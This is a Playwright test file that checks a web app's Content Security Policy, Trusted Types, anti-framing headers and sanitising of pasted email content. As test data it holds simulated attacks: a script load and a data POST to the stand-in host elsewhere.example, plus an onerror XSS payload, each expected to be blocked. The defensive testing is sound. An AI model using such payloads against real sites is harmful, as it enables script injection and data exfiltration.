import type { Page } from '@playwright/test';
import { expectLanding, signInAs } from '../pages/sign-in';
import { expect, test } from './fixtures';

/** Attacks that the page's policy must block; each returns whether it succeeded. */
const attempts: Record<string, (page: Page) => Promise<boolean>> = {
  'evaluate a string': (page) =>
    page.evaluate(
      () =>
        new Promise<boolean>((resolve) => {
          // In a task of the page: code that a test evaluates directly is exempt from the policy.
          setTimeout(() => {
            try {
              const { eval: evaluate } = window as unknown as { eval(text: string): unknown };
              resolve(evaluate('1') === 1);
            } catch {
              resolve(false);
            }
          }, 0);
        }),
    ),
  'run a string with setTimeout': (page) =>
    page.evaluate(
      () =>
        new Promise<boolean>((resolve) => {
          Object.assign(window, { ranLater: () => resolve(true) });
          try {
            setTimeout('ranLater()' as unknown as () => void, 0);
          } catch {
            resolve(false);
          }
          setTimeout(() => resolve(false), 200);
        }),
    ),
  'set innerHTML': (page) =>
    page.evaluate(() => {
      try {
        document.body.appendChild(document.createElement('div')).innerHTML = '<img alt="">';
        return true;
      } catch {
        return false;
      }
    }),
  'create a Trusted Types policy': (page) =>
    page.evaluate(() => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      try {
        trustedTypes.createPolicy('mine', {});
        return true;
      } catch {
        return false;
      }
    }),
  'load a script from another origin': (page) =>
    page.evaluate(
      () =>
        new Promise<boolean>((resolve) => {
          const script = document.createElement('script');
          script.onload = () => resolve(true);
          script.onerror = () => resolve(false);
          script.src = 'https://elsewhere.example/script.js';
          document.head.append(script);
        }),
    ),
  'send data to another origin': (page) =>
    page.evaluate(() =>
      fetch('https://elsewhere.example/collect', {
        method: 'POST',
        mode: 'no-cors',
        body: 'x',
      }).then(
        () => true,
        () => false,
      ),
    ),
};

for (const server of ['npm start', 'nginx'] as const)
  test(`behind ${server}, a page runs only its own code and can’t be framed`, async ({
    page,
    product,
    deployment,
    consoleErrors,
  }) => {
    consoleErrors.expectError(/policy|Content Security Policy|TrustedHTML|trusted/i);
    const { url } = server === 'nginx' ? deployment : product;
    // A blocked request isn't sent, so this route would only answer one that got through.
    await page.route('https://elsewhere.example/**', (route) =>
      route.fulfill({ headers: { 'Access-Control-Allow-Origin': '*' }, body: 'window.ran = true' }),
    );
    await page.goto(url);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const succeeded = [];
    for (const [what, attempt] of Object.entries(attempts))
      if (await attempt(page)) succeeded.push(what);
    expect(succeeded).toEqual([]);

    await page.route('https://framing.example/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${url}"></iframe>` }),
    );
    await page.goto('https://framing.example/');
    const frame = page.frameLocator('iframe');
    await expect(frame.getByRole('heading', { level: 1 })).toHaveCount(0);
  });

test('a changed policy applies to a browser that has the page in its cache', async ({
  page,
  product,
  ownDeployment: { url, change, reconfigure },
  consoleErrors,
}) => {
  consoleErrors.expectError(/policy/i);
  // A server of another deployment. Not `page.route`, which turns the cache off.
  const other = `${product.servers.doctor?.url}/remote.json`;
  const isReachable = () =>
    page.evaluate(
      (address) =>
        fetch(address).then(
          () => true,
          () => false,
        ),
      other,
    );
  for (const path of ['/', '/sign-in', '/index.html']) {
    await change('config.json', (config) => ({ ...config, errorReports: undefined }));
    await reconfigure();
    await page.goto(`${url}${path}`);
    expect([path, await isReachable()]).toEqual([path, false]);
    await change('config.json', (config) => ({ ...config, errorReports: other }));
    await reconfigure();
    await page.goto(`${url}${path}`);
    expect([path, await isReachable()]).toEqual([path, true]);
  }
});

test('nginx and npm start send the same headers with pages and with role apps', async ({
  product,
  deployment,
}) => {
  const names = [
    ...['content-security-policy', 'referrer-policy', 'x-frame-options', 'permissions-policy'],
    ...['cross-origin-opener-policy', 'cross-origin-resource-policy', 'x-content-type-options'],
    ...['access-control-allow-origin', 'cache-control', 'content-type'],
  ];
  const headersOf = async (address: string, ports: readonly string[]) => {
    const { headers } = await fetch(address, { headers: { accept: 'text/html' } });
    const sent = names.map((name) => [name, headers.get(name)] as const);
    return Object.fromEntries(
      sent.map(([name, value]) => [
        name,
        ports.reduce((text, port, index) => text.replaceAll(port, `port ${index}`), value ?? ''),
      ]),
    );
  };
  const ids = Object.keys(product.servers);
  const ofProduct = ids.map((id) => product.servers[id]?.url ?? '');
  const ofNginx = ids.map((id) => deployment.originOf(id));
  const policy = await headersOf(`${deployment.url}/`, ofNginx);
  expect(policy).toEqual(await headersOf(`${product.url}/`, ofProduct));
  expect(policy['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(policy['content-security-policy']).not.toContain('unsafe-eval');
  for (const file of ['/remote.json'])
    expect(await headersOf(`${deployment.originOf('doctor')}${file}`, ofNginx)).toEqual(
      await headersOf(`${product.servers.doctor?.url}${file}`, ofProduct),
    );
});

test('pasted text keeps its formatting, and its scripts are blocked', async ({
  page,
  product,
  consoleErrors,
}) => {
  // The editor parses pasted content in a separate document, which inherits the policy.
  consoleErrors.expectError(/inline event handler|script-src-attr/);
  await signInAs(page, 'demo', `${product.url}/sign-in`);
  await expectLanding(page, 'demo');
  await page.goto(`${product.url}/apps/email`);
  await page.getByRole('button', { name: 'Compose' }).first().click();
  const text = page.locator('[contenteditable="true"]').first();
  await text.click();
  await text.evaluate((element) => {
    const data = new DataTransfer();
    data.setData(
      'text/html',
      `<p>Some <strong>bold</strong><img src="x" onerror="document.title = 'ran'"></p>`,
    );
    const options = { clipboardData: data, bubbles: true, cancelable: true };
    element.dispatchEvent(new ClipboardEvent('paste', options));
  });
  await expect(text.locator('strong')).toHaveText('bold');
  await expect(text.locator('[onerror]')).toHaveCount(0);
  await expect(page).not.toHaveTitle('ran');
});
